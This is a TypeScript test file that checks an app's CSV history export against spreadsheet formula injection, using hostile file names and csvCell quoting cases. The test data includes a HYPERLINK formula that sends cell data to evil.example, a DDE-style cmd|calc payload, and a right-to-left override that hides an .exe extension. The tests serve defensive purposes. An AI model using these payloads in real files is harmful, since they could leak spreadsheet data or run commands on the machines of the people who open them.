/**
 * Exports that never run (issue 23): the history's CSV, opened by a spreadsheet that splits at `,`
 * or at `;` (most of Europe), has no cell a spreadsheet would run as a formula, whatever the files
 * were called; cells keep their text (an apostrophe in front where OWASP says so), and control and
 * bidirectional characters are written visibly.
 */
import { readFile } from 'node:fs/promises'
import { describe, expect, it } from 'vitest'
import { csvCell } from '../../src-main/core/store/csv'
import { b64, profileInput, receiptText, useAppRig, waitFor } from './helpers'

/** How a spreadsheet reads CSV text split at `sep`: RFC 4180 quotes honoured, one array per line. */
function spreadsheet(text: string, sep: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  let wasQuoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"'
        i++
      } else if (c === '"') quoted = false
      else cell += c
    } else if (c === '"' && cell === '' && !wasQuoted) {
      quoted = true
      wasQuoted = true
    } else if (c === sep) {
      row.push(cell)
      cell = ''
      wasQuoted = false
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      wasQuoted = false
      i++
    } else cell += c
  }
  if (cell || row.length) rows.push([...row, cell])
  return rows
}

/** What a spreadsheet treats as a formula (or a DDE call) when it starts a cell. */
const FORMULA_START = /^[=+\-@\t\r]/

const HOSTILE_NAMES = [
  'x;=1+1;.txt',
  '=HYPERLINK("http://evil.example/?"&A1,"open").txt',
  '@SUM(1+1)cmd.txt',
  '+1-1.txt',
  '-2+3.txt',
  'a,=cmd|calc!A1.txt',
  'tab\t=1.txt',
  'quote"d;name.txt',
]

const rigs = useAppRig()

describe('the history as CSV', () => {
  it('has no formula in any cell, opened as `,` or as `;` separated', async () => {
    const r = await rigs.open()
    await r.ok('addProfile', profileInput(r, 'business'))
    const files = HOSTILE_NAMES.map((name, i) => ({ name, base64: b64(receiptText(`csv-${i}`)) }))
    await r.ok('addFileContents', { target: 'expenses', files })
    await waitFor(
      'all completed',
      async () => (await r.ok('history', { statuses: ['completed'] })).total === files.length,
    )
    const exported = await r.ok('exportHistory', { filter: {} })
    expect(exported.rows).toBe(files.length)
    const text = await readFile(exported.path!, 'utf8')

    const comma = spreadsheet(text, ',')
    const semicolon = spreadsheet(text, ';')
    for (const [sep, rows] of [
      [',', comma],
      [';', semicolon],
    ] as const) {
      for (const row of rows) {
        for (const cell of row)
          expect(cell, `a cell of the file split at ${sep}: ${JSON.stringify(cell)}`).not.toMatch(
            FORMULA_START,
          )
      }
    }
    // Split at `,` (the file's own separator), every row has every column, and each name is kept,
    // neutralised where it needed to be.
    const header = comma[0]!
    const fileColumn = header.indexOf('file')
    expect(comma.slice(1).every((row) => row.length === header.length)).toBe(true)
    const names = comma.slice(1).map((row) => row[fileColumn])
    expect(names).toContain("x;'=1+1;.txt")
    expect(names).toContain("'-2+3.txt")
    expect(names).toContain("'@SUM(1+1)cmd.txt")
    expect(names).toContain("a,'=cmd_calc!A1.txt")
    expect(names).toContain('quote_d;name.txt')
    // Split at `;`, what read `=1+1` is text.
    expect(semicolon.some((row) => row.includes("'=1+1"))).toBe(true)
  })

  it.each<[unknown, string]>([
    ['a;b', '"a;b"'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\rhere', '"cr\rhere"'],
    ['x;=1+1;.txt', `"x;'=1+1;.txt"`],
    ['total\n=SUM(A1)', `"total\n'=SUM(A1)"`],
    ['=1+1', "'=1+1"],
    ['\t=1', `"'\t'=1"`],
    ['invoice\u202Efdp.exe', 'invoice<U+202E>fdp.exe'],
    ['bell\u0007and\u0000nul\u200fmark', 'bell<U+0007>and<U+0000>nul<U+200F>mark'],
    ['plain name 1-2.pdf', 'plain name 1-2.pdf'],
    [-12, '-12'], // our own numbers are numbers
    [null, ''],
  ])(
    'quotes every cell holding a separator, a quote or a line break, and writes control characters visibly: %j',
    (input, expected) => {
      expect(csvCell(input)).toBe(expected)
    },
  )
})
